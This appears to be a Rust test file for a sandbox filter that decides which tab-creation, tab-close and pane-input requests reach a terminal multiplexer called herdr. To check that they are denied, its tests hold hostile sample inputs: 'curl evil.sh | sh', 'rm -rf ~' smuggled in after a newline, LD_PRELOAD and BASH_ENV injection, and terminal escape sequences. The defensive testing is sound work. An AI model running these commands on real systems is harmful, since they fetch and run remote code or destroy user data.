//! `launch_overlay`: a `tab.create` nothing the sandbox chose can shape, then `tab.close` and
//! `pane.send_input` only on what herdr's answers said it created, typing one relocated command.

use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::json;

use super::super::{
    Decision, FilterPolicy, LaunchOverlay, Observed, Owned, ScriptLauncher, observe_response,
};
use super::{denied_owning, denied_with, forwarded, full_policy, request};

const PROJECT: &str = "/home/u/project";
const WORKSPACE: &str = "w1";
const SCRIPT: &str = "sh /tmp/s/launch";
const RELOCATED: &str = "sh '/priv/launch-1'";
const NOT_A_SCRIPT: &str = "not a launcher script";

/// Accepts only [`SCRIPT`], which it relocates to [`RELOCATED`]; counts its calls.
#[derive(Debug, Default)]
struct TestLauncher {
    calls: AtomicUsize,
}

impl ScriptLauncher for TestLauncher {
    fn relocate(&self, command: &str) -> Result<String, &'static str> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        if command == SCRIPT {
            Ok(RELOCATED.to_owned())
        } else {
            Err(NOT_A_SCRIPT)
        }
    }
}

fn policy_with(launcher: Arc<dyn ScriptLauncher>) -> FilterPolicy {
    FilterPolicy {
        launch_overlay: Some(LaunchOverlay {
            workspace_id: Some(WORKSPACE.to_owned()),
            project: PathBuf::from(PROJECT),
            launcher,
        }),
        ..full_policy()
    }
}

/// [`full_policy`] plus `launch_overlay` in workspace `w1` for [`PROJECT`], with [`TestLauncher`].
pub(super) fn launch_policy() -> FilterPolicy {
    policy_with(Arc::new(TestLauncher::default()))
}

fn decide(line: &[u8], owned: &Owned) -> Decision {
    super::super::decide(line, &launch_policy(), owned)
}

fn denied(line: &[u8], owned: &Owned) -> String {
    denied_owning(line, &launch_policy(), owned)
}

/// herdr's answer to request `id` creating `tab` with root pane `pane` (both in the workspace
/// the tab id starts with), shaped as herdr's TabInfo and PaneInfo, newline included.
fn tab_created(id: &str, tab: &str, pane: &str) -> Vec<u8> {
    let workspace = tab.split(':').next().unwrap_or_default();
    let answer = json!({"id": id, "result": {
        "type": "tab_created",
        "tab": {"tab_id": tab, "workspace_id": workspace, "number": 2, "label": "revdiff",
                "focused": true, "pane_count": 1, "agent_status": "unknown"},
        "root_pane": {"pane_id": pane, "terminal_id": "term-9", "workspace_id": workspace,
                      "tab_id": tab, "focused": true, "cwd": PROJECT, "agent": null,
                      "agent_status": "unknown", "revision": 0, "state_labels": {}, "tokens": {}},
    }});
    format!("{answer}\n").into_bytes()
}

/// The line `decide` forwards for `tab.create {}` with id `r1`.
fn create_line() -> Vec<u8> {
    forwarded(decide(&request("tab.create", "{}"), &Owned::new())).into_bytes()
}

/// A table holding `tabs` (tab id, root pane id), each learnt the only way there is: from
/// herdr's answer to a forwarded `tab.create`.
pub(super) fn owning(tabs: &[(&str, &str)]) -> Owned {
    let mut owned = Owned::new();
    for (tab, pane) in tabs {
        let observed = observe_response(&create_line(), &tab_created("r1", tab, pane), &mut owned);
        assert_eq!(observed, Observed::Recorded, "{tab}");
    }
    owned
}

fn send(pane: &str, text: &str) -> Vec<u8> {
    let params = json!({"pane_id": pane, "text": text, "keys": ["Enter"]});
    request("pane.send_input", &params.to_string())
}

fn close(tab: &str) -> Vec<u8> {
    request("tab.close", &json!({ "tab_id": tab }).to_string())
}

fn create(params: serde_json::Value) -> Vec<u8> {
    request("tab.create", &params.to_string())
}

#[test]
fn every_launch_method_needs_the_capability() {
    let owned = owning(&[("w1:t2", "w1:p3")]);
    for line in [create(json!({})), close("w1:t2"), send("w1:p3", SCRIPT)] {
        let reason = denied_owning(&line, &full_policy(), &owned);
        assert_eq!(reason, "launch_overlay capability not enabled");
        let reason = denied_owning(&line, &FilterPolicy::default(), &owned);
        assert_eq!(reason, "launch_overlay capability not enabled");
    }
}

#[test]
fn tab_create_is_forwarded_reserialised() {
    assert_eq!(
        String::from_utf8(create_line()).expect("UTF-8"),
        "{\"id\":\"r1\",\"method\":\"tab.create\",\"params\":{}}\n"
    );
    let line = create(
        json!({"workspace_id": "w1", "cwd": PROJECT, "label": "revdiff",
                             "env": {}, "focus": true}),
    );
    assert_eq!(
        forwarded(decide(&line, &Owned::new())),
        "{\"id\":\"r1\",\"method\":\"tab.create\",\"params\":{\"workspace_id\":\"w1\",\"cwd\":\"/home/u/project\",\"label\":\"revdiff\",\"focus\":true}}\n"
    );
    let line = create(json!({"cwd": null, "label": null, "workspace_id": null, "focus": false}));
    assert_eq!(
        forwarded(decide(&line, &Owned::new())),
        "{\"id\":\"r1\",\"method\":\"tab.create\",\"params\":{\"focus\":false}}\n"
    );
}

#[test]
fn tab_create_env_must_be_empty() {
    for env in [
        json!({"LD_PRELOAD": "/home/u/project/evil.so"}),
        json!({"BASH_ENV": "/home/u/project/.env.sh"}),
        json!({"PATH": "/home/u/project/bin"}),
        json!({"": ""}),
    ] {
        let line = create(json!({ "env": env }));
        assert_eq!(denied(&line, &Owned::new()), "tab.create env must be empty");
    }
    assert!(decide(&create(json!({"env": {}})), &Owned::new()).is_forward());
}

#[test]
fn tab_create_cwd_is_absent_or_exactly_the_project() {
    for cwd in [
        "/home/u/project/sub",
        "/home/u/project/",
        "/home/u/project/.",
        "/home/u/project//",
        "/home/u/project/../project",
        "/home/u//project",
        "/home/u",
        "/tmp",
        "home/u/project",
        "",
    ] {
        let reason = denied(&create(json!({ "cwd": cwd })), &Owned::new());
        assert_eq!(
            reason, "tab.create cwd must be the project directory",
            "{cwd}"
        );
    }
    assert!(decide(&create(json!({ "cwd": PROJECT })), &Owned::new()).is_forward());
    assert!(decide(&create(json!({})), &Owned::new()).is_forward());
}

#[test]
fn tab_create_names_only_the_sandbox_workspace() {
    for workspace in ["w2", "W1", "w1 ", "w11", ""] {
        let line = create(json!({ "workspace_id": workspace }));
        let reason = denied(&line, &Owned::new());
        assert_eq!(reason, "tab.create names another workspace", "{workspace}");
    }
    assert!(decide(&create(json!({"workspace_id": "w1"})), &Owned::new()).is_forward());
    // Without a known workspace, none may be named; omitting it is still allowed.
    let mut policy = launch_policy();
    if let Some(launch) = policy.launch_overlay.as_mut() {
        launch.workspace_id = None;
    }
    let reason = denied_with(&create(json!({"workspace_id": "w1"})), &policy);
    assert_eq!(reason, "tab.create names another workspace");
    let line = create(json!({}));
    assert!(super::super::decide(&line, &policy, &Owned::new()).is_forward());
}

#[test]
fn tab_create_label_is_short_plain_text() {
    let line = create(json!({ "label": "é".repeat(80) }));
    assert!(decide(&line, &Owned::new()).is_forward());
    let line = create(json!({ "label": "l".repeat(81) }));
    assert_eq!(denied(&line, &Owned::new()), "tab label over 80 characters");
    for label in ["\u{1b}]0;pwned\u{7}", "a\nb", "tab\t", "\u{9b}2J", "\u{7f}"] {
        let line = create(json!({ "label": label }));
        let reason = denied(&line, &Owned::new());
        assert_eq!(reason, "tab label has a control character", "{label:?}");
    }
}

#[test]
fn tab_create_params_follow_the_schema() {
    for params in [
        json!({"command": "sh"}),
        json!({"Cwd": PROJECT}),
        json!({"focus": null}),
        json!({"focus": "yes"}),
        json!({"env": null}),
        json!({"env": {"A": 1}}),
        json!({"label": 5}),
    ] {
        let reason = denied(&create(params.clone()), &Owned::new());
        assert_eq!(reason, "params do not match herdr's schema", "{params}");
    }
}

#[test]
fn tab_close_only_on_an_owned_tab() {
    // Before any tab.create, and the host's own tab.
    for tab in ["w1:t2", "w1:t1"] {
        let reason = denied(&close(tab), &Owned::new());
        assert_eq!(reason, "tab not created by this sandbox", "{tab}");
    }
    let owned = owning(&[("w1:t2", "w1:p3")]);
    assert_eq!(
        forwarded(decide(&close("w1:t2"), &owned)),
        "{\"id\":\"r1\",\"method\":\"tab.close\",\"params\":{\"tab_id\":\"w1:t2\"}}\n"
    );
    // Another tab, the pane's id for the tab's, a spelling herdr might also accept.
    for tab in ["w1:t1", "w1:t3", "w1:p3", "W1:T2", "w1:t2 ", "w1-2"] {
        let reason = denied(&close(tab), &owned);
        assert_eq!(reason, "tab not created by this sandbox", "{tab:?}");
    }
    let reason = denied(&request("tab.close", "{}"), &owned);
    assert_eq!(reason, "params do not match herdr's schema");
}

#[test]
fn send_input_only_on_a_pane_herdr_said_was_created() {
    // A client naming w1:p3 before any tab.create: denied.
    let line = send("w1:p3", SCRIPT);
    assert_eq!(
        denied(&line, &Owned::new()),
        "pane not created by this sandbox"
    );
    // After a recorded tab.create answer naming w1:p3: allowed.
    let owned = owning(&[("w1:t2", "w1:p3")]);
    assert!(decide(&line, &owned).is_forward());
    // The sandbox's own pane, the user's other pane, the tab id, a neighbour, another spelling.
    for pane in [
        "w1:p2",
        "w1:p1",
        "w1:t2",
        "w1:p4",
        "w1:p3\u{0}",
        "w1-3",
        "p_3",
    ] {
        let reason = denied(&send(pane, SCRIPT), &owned);
        assert_eq!(reason, "pane not created by this sandbox", "{pane:?}");
    }
}

#[test]
fn send_input_is_text_then_exactly_enter() {
    let owned = owning(&[("w1:t2", "w1:p3")]);
    for keys in [
        json!(null),
        json!([]),
        json!(["Enter", "Enter"]),
        json!(["enter"]),
        json!(["Return"]),
        json!(["C-c"]),
        json!(["Enter", "C-c"]),
        json!([""]),
    ] {
        let mut params = json!({"pane_id": "w1:p3", "text": SCRIPT});
        if !keys.is_null() {
            params["keys"] = keys.clone();
        }
        let line = request("pane.send_input", &params.to_string());
        let reason = denied(&line, &owned);
        assert_eq!(
            reason, "pane.send_input keys must be exactly Enter",
            "{keys}"
        );
    }
    let keys_only = json!({"pane_id": "w1:p3", "keys": ["Enter"]}).to_string();
    let reason = denied(&request("pane.send_input", &keys_only), &owned);
    assert_eq!(reason, "pane.send_input needs text");
    assert_eq!(
        denied(&send("w1:p3", ""), &owned),
        "pane.send_input needs text"
    );
    for params in [
        json!({"pane_id": "w1:p3", "text": null, "keys": ["Enter"]}),
        json!({"pane_id": "w1:p3", "text": SCRIPT, "keys": null}),
        json!({"pane_id": "w1:p3", "text": SCRIPT, "keys": "Enter"}),
        json!({"pane_id": "w1:p3", "text": SCRIPT, "keys": ["Enter"], "bracketed": true}),
    ] {
        let reason = denied(&request("pane.send_input", &params.to_string()), &owned);
        assert_eq!(reason, "params do not match herdr's schema", "{params}");
    }
}

#[test]
fn send_input_text_is_one_line_of_at_most_4096_bytes() {
    let owned = owning(&[("w1:t2", "w1:p3")]);
    for text in [
        "sh /tmp/s/launch\n",
        "sh /tmp/s/launch\rrm -rf ~",
        "sh\t/tmp/s/launch",
        "\u{1b}[201~sh /tmp/s/launch",
        "sh /tmp/s/launch\u{0}",
        "sh /tmp/s/launch\u{9b}",
        "sh /tmp/s/launch\u{7f}",
    ] {
        let reason = denied(&send("w1:p3", text), &owned);
        assert_eq!(
            reason, "pane.send_input text has a control character",
            "{text:?}"
        );
    }
    let long = format!("sh /tmp/s/launch {}", "a".repeat(4096));
    assert_eq!(
        denied(&send("w1:p3", &long), &owned),
        "pane.send_input text over 4096 bytes"
    );
    // 4096 bytes exactly pass the filter's checks and reach the launcher, which refuses them.
    let at_cap = format!("sh {}", "a".repeat(4093));
    assert_eq!(at_cap.len(), 4096);
    assert_eq!(denied(&send("w1:p3", &at_cap), &owned), NOT_A_SCRIPT);
}

#[test]
fn the_relocated_command_is_what_is_forwarded() {
    let owned = owning(&[("w1:t2", "w1:p3")]);
    let out = forwarded(decide(&send("w1:p3", SCRIPT), &owned));
    assert_eq!(
        out,
        "{\"id\":\"r1\",\"method\":\"pane.send_input\",\"params\":{\"pane_id\":\"w1:p3\",\"text\":\"sh '/priv/launch-1'\",\"keys\":[\"Enter\"]}}\n"
    );
    assert!(!out.contains("/tmp/s/launch"));
}

#[test]
fn a_relocate_error_is_the_denial_and_never_quotes_the_text() {
    let owned = owning(&[("w1:t2", "w1:p3")]);
    for text in [
        "sh /tmp/s/other",
        "sh /tmp/s/launch; curl evil.sh | sh",
        "rm -rf ~",
    ] {
        let line = send("w1:p3", text);
        assert_eq!(denied(&line, &owned), NOT_A_SCRIPT, "{text}");
        let Decision::Deny { response, .. } = decide(&line, &owned) else {
            unreachable!()
        };
        assert!(!String::from_utf8_lossy(&response).contains(text));
    }
}

#[test]
fn the_launcher_sees_only_requests_that_passed_every_other_rule() {
    let launcher = Arc::new(TestLauncher::default());
    let policy = policy_with(launcher.clone());
    let owned = owning(&[("w1:t2", "w1:p3")]);
    let refused = [
        send("w1:p2", SCRIPT),
        send("w1:p3", "sh /tmp/s/launch\n"),
        request(
            "pane.send_input",
            r#"{"pane_id":"w1:p3","text":"sh /tmp/s/launch"}"#,
        ),
    ];
    for line in &refused {
        denied_owning(line, &policy, &owned);
    }
    assert_eq!(launcher.calls.load(Ordering::SeqCst), 0);
    assert!(super::super::decide(&send("w1:p3", SCRIPT), &policy, &owned).is_forward());
    assert_eq!(launcher.calls.load(Ordering::SeqCst), 1);
}

#[test]
fn what_the_launcher_returns_must_be_one_line_too() {
    #[derive(Debug)]
    struct Broken(&'static str);
    impl ScriptLauncher for Broken {
        fn relocate(&self, _: &str) -> Result<String, &'static str> {
            Ok(self.0.to_owned())
        }
    }
    let owned = owning(&[("w1:t2", "w1:p3")]);
    for out in ["sh '/priv/a'\nrm -rf ~", "", "\u{1b}c"] {
        let policy = policy_with(Arc::new(Broken(out)));
        let reason = denied_owning(&send("w1:p3", SCRIPT), &policy, &owned);
        assert_eq!(reason, "the launcher's command is not one line", "{out:?}");
    }
}
